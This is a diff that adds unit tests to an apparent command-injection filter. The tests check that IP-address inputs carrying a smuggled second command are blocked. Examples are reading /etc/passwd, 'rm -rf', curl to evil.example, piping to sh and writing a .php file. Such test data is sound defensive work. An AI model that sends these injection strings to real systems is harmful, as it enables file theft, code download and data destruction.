@@ -35,3 +35,24 @@ test('braces behind a separator are a command and its arguments, with nothing th
   expect(isBlocked(commandInjection, '8.8.8.8;{cat,flag}')).toBe(true)
   expect(isBlocked(commandInjection, 'red;{green,blue}')).toBe(false)
 })
+
+test.each([
+  '8.8.8.8; cat 1/2 /etc/passwd',
+  '8.8.8.8; rm 24/7 -rf x',
+  '8.8.8.8; curl ... http://evil.example/x',
+  '8.8.8.8; find a/b -delete',
+  '8.8.8.8; watch http://evil.example/x -O y',
+  '8.8.8.8; print x.txt > a.php',
+  '8.8.8.8; python < x',
+  '8.8.8.8; bash < x',
+  '8.8.8.8; more < x | sh',
+  '8.8.8.8; Curl Foo http://evil.example/x',
+  '8.8.8.8; time < x | sh',
+])('what looks like prose before a command line goes on is a pretext: %j', (text) => {
+  expect(isBlocked(commandInjection, text)).toBe(true)
+})
+
+test('Windows asks for no small letters where nothing follows', () => {
+  expect(isBlocked(commandInjection, '8.8.8.8&Dir')).toBe(true)
+  expect(isBlocked(commandInjection, '8.8.8.8&Di')).toBe(false)
+})
